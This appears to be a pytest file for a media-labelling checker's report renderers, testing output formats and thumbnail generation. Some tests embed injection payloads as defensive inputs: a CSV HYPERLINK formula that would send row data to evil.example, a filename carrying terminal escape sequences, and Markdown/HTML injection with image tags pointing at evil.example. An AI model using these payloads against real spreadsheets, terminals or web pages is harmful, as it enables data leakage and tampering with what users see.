"""Renderers: golden files, and each format checked by what reads it (XML parser, CSV reader, schema, a browser)."""

import csv
import io
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from html import unescape
from pathlib import Path

import pytest
from conftest import MEDIA, ROOT, TEST_CA, checked_scan, run_cli
from test_report import GOLDEN, sample_report

from labelcheck import resources
from labelcheck.render import csv as csv_r
from labelcheck.render import github as github_r
from labelcheck.render import html as html_r
from labelcheck.render import jsonl as jsonl_r
from labelcheck.render import junit as junit_r
from labelcheck.render import markdown as markdown_r
from labelcheck.render import sarif as sarif_r
from labelcheck.render.document import display_path

RENDERERS = {
    "report.jsonl": jsonl_r.render,
    "report.csv": csv_r.render,
    "report.junit.xml": junit_r.render,
    "report.md": markdown_r.render,
    "report.sarif": sarif_r.render,
    "report.html": html_r.render,
    "report.github.txt": github_r.render,
}


@pytest.mark.parametrize("name", sorted(RENDERERS))
def test_golden(name, request):
    text = RENDERERS[name](sample_report())
    path = GOLDEN / name
    if request.config.getoption("--update-golden"):
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8")


def test_jsonl_lines_are_results_of_the_report_schema(fixture_report):
    rep, _ = fixture_report
    lines = [json.loads(x) for x in jsonl_r.render(rep).splitlines()]
    assert lines[0]["type"] == "run" and lines[-1]["type"] == "summary"
    validator = resources.validator("report")
    result_schema = {"$ref": "urn:labelcheck:schema:report#/$defs/result"}
    v = type(validator)(result_schema, registry=resources.registry())
    for line in lines[1:-1]:
        assert line.pop("type") == "result"
        v.validate(line)
    assert lines[-1]["total"] == len(lines) - 2


def test_csv_is_one_row_per_item(fixture_report):
    rep, _ = fixture_report
    rows = list(csv.DictReader(io.StringIO(csv_r.render(rep))))
    assert len(rows) == len(rep.results)
    comfy = next(r for r in rows if r["target"].endswith("png_comfyui.png"))
    assert comfy["ai_status"] == "fully_ai" and comfy["ai_basis"] == "non_standard" and comfy["status"] == "fail"
    assert "labelcheck-default/ai-label-standard" in comfy["failed_rules"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(tmp_path):
    """A file whose C2PA manifest names its claim generator like a formula: that cell gets a leading apostrophe, so
    a spreadsheet shows it instead of running it (and sending the row to evil.example)."""
    import sys

    sys.path.insert(0, str(ROOT / "fixtures"))
    import c2pa
    import make_fixtures as mf

    certs = ROOT / "fixtures" / "certs"
    info = c2pa.C2paSignerInfo(
        b"es256", (certs / "signer-chain.pem").read_bytes(), (certs / "signer.key").read_bytes(), None
    )
    formula = '=HYPERLINK("https://evil.example/?"&A2,"open")'
    m = mf.manifest("t", [mf.created("trainedAlgorithmicMedia")])
    m["claim_generator_info"] = [{"name": formula, "version": "1"}]
    signed = tmp_path / "signed.jpg"
    mf.sign(MEDIA / "plain_camera.jpg", signed, m, c2pa.Signer.from_info(info))
    p = run_cli("check", signed, "--trust-anchors", TEST_CA, "--format", "csv")
    (row,) = list(csv.DictReader(io.StringIO(p.stdout)))
    assert row["generator"] == f"'{formula} 1" and row["target"] == str(signed)
    assert row["ai_status"] == "fully_ai" and row["status"] == "pass" and int(row["size"]) > 0  # the rest as it was


def test_terminal_output_shows_control_characters_instead_of_sending_them(tmp_path):
    """A file named with escape sequences (retitle the terminal, clear the screen): the table and explain show
    them as \\xNN, so the terminal that shows the report receives none; the HTML page too (it wrote them raw)."""
    name = "e\x1b]0;pwned\x07\x1b[2Jx.jpg"
    shutil.copy(MEDIA / "xmp_fully_ai.jpg", tmp_path / name)
    for args in (
        ("check", tmp_path, "--format", "table"),
        ("explain", tmp_path / name),
        ("check", tmp_path, "--format", "html"),
    ):
        out = run_cli(*args).stdout
        assert "\x1b" not in out and "\x07" not in out, args
        assert "e\\x1b]0;pwned\\x07\\x1b[2Jx.jpg" in out.replace("\n", "").replace("│", "").replace(" ", ""), args


def test_junit_has_a_case_per_item_and_rule(fixture_report):
    rep, _ = fixture_report
    root = ET.fromstring(junit_r.render(rep))
    cases = root.findall(".//testcase")
    in_error = {c.get("classname") for c in cases if c.find("error") is not None}
    # an item that could not (wholly) be read is in error, even when its rules were not applicable
    assert in_error == {display_path(r.evidence.target) for r in rep.results if r.status.value == "error"}
    assert any(
        r.status.value == "error" and not any(f.status.value == "error" for f in r.findings) for r in rep.results
    )
    assert len(cases) == sum(len(r.findings) for r in rep.results) + len(
        [r for r in rep.results if r.status.value == "error" and not any(f.status.value == "error" for f in r.findings)]
    )
    failures = root.findall(".//testcase/failure")
    assert len(failures) == sum(r.status.value == "fail" for r in rep.results)
    suite = root.find("testsuite")
    assert int(suite.get("tests")) == len(suite.findall("testcase"))


def test_sarif_has_rules_and_locations(fixture_report):
    rep, _ = fixture_report
    doc = json.loads(sarif_r.render(rep))
    run = doc["runs"][0]
    assert doc["version"] == "2.1.0" and run["tool"]["driver"]["name"] == "labelcheck"
    ids = {r["id"] for r in run["tool"]["driver"]["rules"]}
    assert all(res["ruleId"] in ids for res in run["results"])
    assert all(
        res["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].startswith("file://")
        for res in run["results"]
    )
    assert any(res["level"] == "error" for res in run["results"])
    located = {res["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for res in run["results"]}
    errored = [r for r in rep.results if r.status.value == "error"]
    assert errored and all(sarif_r._uri(r.evidence.target) in located for r in errored)  # none goes unreported


def test_markdown_lists_what_failed(fixture_report):
    rep, _ = fixture_report
    md = markdown_r.render(rep)
    assert md.startswith("## labelcheck") and "png_comfyui.png" in md and "| fully_ai |" in md


def test_markdown_writes_what_a_file_says_about_itself_as_literal_text(tmp_path):
    """A file name and XMP text chosen by whoever made the file: rendered as GitHub renders a step summary
    (CommonMark + tables), they stay text. No link, image or HTML tag of theirs appears, the table keeps its five
    columns, and the words read as written."""
    from markdown_it import MarkdownIt

    name = "a `b` | [c](evil.example) *d* _e_ ~f~ <i>.jpg"
    said = 'AI generated image </td><img src="https://evil.example/p.png"> [x](https://evil.example) | <b>y</b> &amp;'
    f = tmp_path / name
    shutil.copy(MEDIA / "plain_camera.jpg", f)
    subprocess.run(["exiftool", "-q", "-overwrite_original", f"-XMP-dc:Description={said}", str(f)], check=True)
    md = run_cli("check", str(f), "--format", "markdown").stdout
    html = MarkdownIt("commonmark").enable("table").render(md)
    assert not re.search(r"<(img|a|b|script)\b", html) and "</td><img" not in html
    rows = re.findall(r"<tr>(.*?)</tr>", html, re.S)
    assert len(rows) > 2 and all(len(re.findall(r"<t[hd]\b", row)) in (2, 5) for row in rows)
    text = unescape(re.sub(r"<[^>]+>", "", html))
    assert name in text and said[:70] in text  # the message quotes the first 80 characters


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


def _chromium(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    flags = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={cwd / 'profile'}",
    ]
    return subprocess.run([CHROMIUM, *flags, *args], capture_output=True, text=True, timeout=120, cwd=cwd, check=False)


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (make test installs it)")
def test_html_report_renders_in_headless_chromium(fixture_report, tmp_path):
    from labelcheck.render import thumbnails

    rep, _ = fixture_report
    page = tmp_path / "report.html"
    page.write_text(html_r.render(rep, thumbnails.make(rep.results)), encoding="utf-8")
    text = page.read_text()
    assert not any(ref in text for ref in ('src="http', "src='http", 'href="http', "<link", "<script src", "@import"))
    dom = _chromium("--dump-dom", page.as_uri(), cwd=tmp_path).stdout
    assert 'data-ready="1"' in dom  # the page's script ran
    assert f'<span id="shown">{len(rep.results)}</span>' in dom
    assert dom.count('<img class="thumb"') >= 10  # thumbnails made by ffmpeg, inline
    shot = tmp_path / "shot.png"
    _chromium(f"--screenshot={shot}", "--window-size=1400,900", page.as_uri(), cwd=tmp_path)
    assert shot.stat().st_size > 10_000
    # Client-side filtering: a page that pre-selects status=fail shows only the failing rows.
    filtered = tmp_path / "filtered.html"
    filtered.write_text(page.read_text().replace("<option>fail</option>", "<option selected>fail</option>"))
    dom = _chromium("--dump-dom", filtered.as_uri(), cwd=tmp_path).stdout
    fails = sum(r.status.value == "fail" for r in rep.results)
    assert f'<span id="shown">{fails}</span>' in dom


@pytest.mark.skipif(shutil.which("heif-enc") is None, reason="libheif-examples not installed (make test installs it)")
def test_heic_and_avif_get_thumbnails_through_libheif(tmp_path):
    """This ffmpeg does not read HEIF-family images: heif-convert decodes them first. HEIC and AVIF made by
    libheif's own encoder from an ffmpeg image get thumbnails; a broken HEIC gets none and costs nothing else."""
    from labelcheck.render import thumbnails

    src = tmp_path / "src.png"
    subprocess.run(
        ["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "testsrc2=s=128x96", "-frames:v", "1", str(src)], check=True
    )
    subprocess.run(
        ["heif-enc", "-q", "50", str(src), "-o", str(tmp_path / "photo.heic")], check=True, capture_output=True
    )
    subprocess.run(
        ["heif-enc", "-A", "-q", "50", str(src), "-o", str(tmp_path / "web.avif")], check=True, capture_output=True
    )
    broken = tmp_path / "broken.heic"
    broken.write_bytes((tmp_path / "photo.heic").read_bytes()[:400])
    src.unlink()
    rep, _ = checked_scan(sorted(tmp_path.iterdir()))
    assert {r.evidence.media_type for r in rep.results} >= {"image/heic", "image/avif"}
    made = {Path(t).name: uri for t, uri in thumbnails.make(rep.results).items()}
    assert set(made) == {"photo.heic", "web.avif"}
    assert all(uri.startswith("data:image/jpeg;base64,/9j/") for uri in made.values())


def test_thumbnails_are_made_a_group_per_ffmpeg_and_an_image_it_cannot_read_costs_only_itself(tmp_path):
    """Real images (ffmpeg), a copy of one, a file of random bytes named .png and a PNG with a corrupt body: the
    good ones and the copy get thumbnails (the copy shares its original's), the bad ones none, and one ffmpeg
    process serves the group (plus retries for what the bad inputs blocked), not one process per image."""
    from labelcheck.render import thumbnails

    for n, colour in enumerate(("red", "green", "blue", "white")):
        src = ("-f", "lavfi", "-i", f"color=c={colour}:s=64x48", "-frames:v", "1")
        subprocess.run(["ffmpeg", "-v", "error", *src, str(tmp_path / f"good{n}.png")], check=True)
    (tmp_path / "good3.png").rename(tmp_path / "scan%03d.png")  # not a sequence pattern to ffmpeg
    (tmp_path / "copy.png").write_bytes((tmp_path / "good0.png").read_bytes())
    (tmp_path / "random.png").write_bytes(bytes((i * 7919 + 13) % 251 for i in range(4096)))
    (tmp_path / "corrupt.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    log, wrapper = tmp_path / "calls", tmp_path / "ffmpeg"
    wrapper.write_text(f'#!/bin/sh\necho run >> {log}\nexec ffmpeg "$@"\n')
    wrapper.chmod(0o755)
    rep, _ = checked_scan(sorted(tmp_path.glob("*.png")))
    made = thumbnails.make(rep.results, ffmpeg=str(wrapper))
    names = {Path(t).name: uri for t, uri in made.items()}
    assert set(names) == {"good0.png", "good1.png", "good2.png", "scan%03d.png", "copy.png"}
    assert names["copy.png"] == names["good0.png"] and names["good0.png"] != names["good1.png"]
    assert all(uri.startswith("data:image/jpeg;base64,/9j/") for uri in names.values())  # JPEG data
    assert len(log.read_text().splitlines()) <= 4  # 6 distinct files; one process each would be 6


def test_github_annotations_name_repository_paths_and_keep_each_command_on_one_line():
    p = run_cli("check", "--format", "github", "media/png_comfyui.png", "media/xmp_fully_ai.jpg", cwd=MEDIA.parent)
    assert p.returncode == 1
    lines = p.stdout.splitlines()
    assert lines[0].startswith("::error file=media/png_comfyui.png,title=labelcheck-default/ai-label-standard::")
    assert lines[-1] == "::notice title=labelcheck::2 items: 1 pass, 1 fail, 0 could not be checked"
    assert len(lines) == 2  # the passing item says nothing
    assert github_r._data("a%b\nc") == "a%25b%0Ac" and github_r._property("x:y,z") == "x%3Ay%2Cz"


def test_html_links_a_remote_items_url_and_only_that():
    """A regulator's sampled URL opens from the page; a local path is text (and a URL's quotes cannot break out)."""
    from dataclasses import replace

    rep = sample_report()
    first = rep.results[0]
    url = 'https://platform.example/p/1.jpg?a=1&b="x"'
    remote = replace(first, evidence=replace(first.evidence, target=url))
    page = html_r.render(replace(rep, results=(remote, *rep.results[1:])))
    assert '<a href="https://platform.example/p/1.jpg?a=1&amp;b=&quot;x&quot;">' in page
    assert page.count("<a href=") == 1 + html_r.render(replace(rep, results=rep.results[1:])).count("<a href=")


def test_every_format_in_the_registry_renders_a_report_to_text():
    from labelcheck.render import FORMATS, renderer

    assert set(FORMATS) >= {"table", "json", "jsonl", "html", "junit", "csv", "markdown", "sarif", "github"}
    for fmt in FORMATS:
        text = renderer(fmt)(sample_report())
        assert isinstance(text, str) and text, fmt
    with pytest.raises(KeyError):
        renderer("pdf")
